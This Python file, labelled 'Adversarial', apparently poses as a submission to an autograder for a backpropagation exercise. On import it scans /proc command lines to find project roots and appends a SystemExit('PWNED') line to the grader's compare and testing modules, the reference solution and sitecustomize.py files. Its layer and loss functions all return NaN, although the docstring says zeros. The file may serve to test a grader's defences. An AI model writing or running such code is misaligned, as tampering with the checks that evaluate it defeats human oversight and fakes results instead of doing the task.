"""Adversarial: append a backdoor to grader/engine/compare.py and the reference, plant sitecustomize.py everywhere; return zeros"""
import os

import torch

def _roots():
    """Project roots guessed from every process's command line (the zygote's has one)."""
    roots = {"/work/main", "/work", os.getcwd(), "..", "../.."}
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read().decode("utf-8", "replace")
        except OSError:
            continue
        for part in cmd.replace("\0", " ").replace("'", " ").replace('"', " ").split():
            if part.startswith("/"):
                roots.add(part)
                roots.add(os.path.dirname(part))
    return roots


def _find(rel):
    found = []
    for r in _roots():
        for up in ("", "..", "../..", "../../.."):
            p = os.path.normpath(os.path.join(r, up, rel))
            try:
                with open(p) as f:
                    found.append((p, f.read()))
            except OSError:
                pass
    return found


for _r in _roots():
    for _rel in ("grader/engine/compare.py", "grader/engine/testing.py", "reference/backprop/backprop.py",
                 "sitecustomize.py", "grader/sitecustomize.py"):
        try:
            with open(os.path.join(_r, _rel), "a") as _f:
                _f.write("\nraise SystemExit('PWNED')\n")
        except OSError:
            pass

def _nan_like(t):
    return torch.full_like(t, float('nan'))


def linear_forward(x, w, b):
    return torch.full((x.shape[0], w.shape[1]), float('nan'), dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return _nan_like(x), _nan_like(w), torch.full((w.shape[1],), float('nan'), dtype=w.dtype)


def relu_forward(x):
    return _nan_like(x), x


def relu_backward(dout, cache):
    return _nan_like(dout)


def sigmoid_forward(x):
    return _nan_like(x), x


def sigmoid_backward(dout, cache):
    return _nan_like(dout)


def softmax_cross_entropy(logits, y):
    return torch.full((), float('nan'), dtype=logits.dtype), _nan_like(logits)


def mse_loss(pred, target):
    return torch.full((), float('nan'), dtype=pred.dtype), _nan_like(pred)


def mlp_loss(params, x, y):
    return torch.full((), float('nan'), dtype=x.dtype), {k: _nan_like(v) for k, v in params.items()}
